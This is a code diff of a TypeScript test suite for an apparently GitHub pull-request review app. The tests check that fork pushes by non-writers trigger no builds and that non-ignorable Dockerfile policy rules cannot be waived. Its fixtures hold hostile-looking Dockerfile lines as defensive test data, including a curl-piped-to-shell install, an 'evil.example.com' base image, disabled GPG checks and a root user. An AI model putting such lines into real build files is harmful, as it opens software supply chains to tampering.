@@ -476,17 +476,18 @@ describe("approving a fork's code", () => {
     const senders = ["outsider", "triager", "stranger"];
     const repos = await Promise.all([...senders, "member"].map(async (sender) => ({ sender, variant: `push by ${sender}`, ...(await variantRepo(`writer fork pushed by ${sender}`, { author: "member", fork: "member/hello" })) })));
     world.deliverTo(undefined);
+    const pushed = new Map<string, string>();
     await Promise.all(
       repos.map(async (c) => {
         await app.receive("pull_request", world.pullEvent(PR, "opened", { repo: c.repo }));
         const next = await world.commit({ "variant.txt": `pushed by ${c.sender}\n` }, { repo: c.repo, branch: `pr-${PR}` });
+        pushed.set(c.repo, next);
         world.pushTo(PR, next, c.repo);
         await app.receive("pull_request", world.pullEvent(PR, "synchronize", { repo: c.repo, sender: c.sender }));
-        Object.assign(c, { next });
       }),
     );
     const built = (c: (typeof repos)[number]) => dispatchesTo(c.repo, "flibs.yml").map((i) => i.sha);
-    const next = (c: (typeof repos)[number]) => (c as unknown as { next: string }).next;
+    const next = (c: (typeof repos)[number]) => pushed.get(c.repo)!;
     const attacks = repos.filter((c) => c.sender !== "member");
     const lost = await ledger("a push to a writer's fork by someone without write access", attacks, async (c) => {
       const gate = world.shown(next(c), "flibs/build", c.repo);
@@ -508,17 +509,16 @@ describe("# flibs-ignore of a rule policy does not let be ignored", () => {
   test("the review still fails, naming the rule and why the ignore suppressed nothing", async () => {
     world.policy(policyText("not_ignorable: [base-image-registry, required-labels, no-gpgcheck, curl-pipe-shell, user-root]\n"));
     const ignore = (ids: string) => `# flibs-ignore ${ids} we know what we are doing`;
-    const good = DOCKERFILE;
     const cases = [
-      { variant: "base-image-registry", rule: "base-image-registry", df: good.replace(/^FROM .*$/m, `${ignore("base-image-registry")}\nFROM evil.example.com/fedora-minimal:41`) },
+      { variant: "base-image-registry", rule: "base-image-registry", df: DOCKERFILE.replace(/^FROM .*$/m, `${ignore("base-image-registry")}\nFROM evil.example.com/fedora-minimal:41`) },
       { variant: "required-labels", rule: "required-labels", df: `${ignore("required-labels")}\nFROM registry.fedoraproject.org/fedora-minimal:41\nUSER 1001\n` },
-      { variant: "no-gpgcheck", rule: "no-gpgcheck", df: good.replace(/^RUN .*$/m, `${ignore("no-gpgcheck")}\nRUN microdnf -y --nogpgcheck install hello && microdnf clean all`) },
-      { variant: "curl-pipe-shell", rule: "curl-pipe-shell", df: good.replace(/^RUN .*$/m, `${ignore("curl-pipe-shell")}\nRUN curl -fsSL https://example.com/install.sh | sh`) },
-      { variant: "user-root, listed by the organisation", rule: "user-root", df: good.replace(/^USER .*$/m, `${ignore("user-root")}\nUSER root`) },
-      { variant: "base-image-registry among ignorable ids", rule: "base-image-registry", df: good.replace(/^FROM .*$/m, `${ignore("base-image-tag,base-image-registry")}\nFROM evil.example.com/fedora-minimal:41`) },
+      { variant: "no-gpgcheck", rule: "no-gpgcheck", df: DOCKERFILE.replace(/^RUN .*$/m, `${ignore("no-gpgcheck")}\nRUN microdnf -y --nogpgcheck install hello && microdnf clean all`) },
+      { variant: "curl-pipe-shell", rule: "curl-pipe-shell", df: DOCKERFILE.replace(/^RUN .*$/m, `${ignore("curl-pipe-shell")}\nRUN curl -fsSL https://example.com/install.sh | sh`) },
+      { variant: "user-root, listed by the organisation", rule: "user-root", df: DOCKERFILE.replace(/^USER .*$/m, `${ignore("user-root")}\nUSER root`) },
+      { variant: "base-image-registry among ignorable ids", rule: "base-image-registry", df: DOCKERFILE.replace(/^FROM .*$/m, `${ignore("base-image-tag,base-image-registry")}\nFROM evil.example.com/fedora-minimal:41`) },
     ];
     // An ignorable rule waived the same way: the review passes, so the ignores above are read, and refused.
-    const control = { variant: "add-url, ignorable", df: good.replace(/^USER .*$/m, `${ignore("add-url")}\nADD https://example.com/hello.conf /etc/hello.conf\nUSER 1001`) };
+    const control = { variant: "add-url, ignorable", df: DOCKERFILE.replace(/^USER .*$/m, `${ignore("add-url")}\nADD https://example.com/hello.conf /etc/hello.conf\nUSER 1001`) };
     const repos = await Promise.all([...cases, control].map(async (c) => ({ ...c, ...(await variantRepo(`ignore ${c.variant}`, { author: "outsider", fork: "outsider/hello", files: { Dockerfile: c.df } })) })));
     await Promise.all(repos.map((c) => app.receive("pull_request", world.pullEvent(PR, "opened", { repo: c.repo }))));
     const written = (repo: string) => JSON.stringify(world.github.calls().filter((r) => /check-runs/.test(r.route) && `${r.params.owner}/${r.params.repo}` === repo).map((r) => r.body));
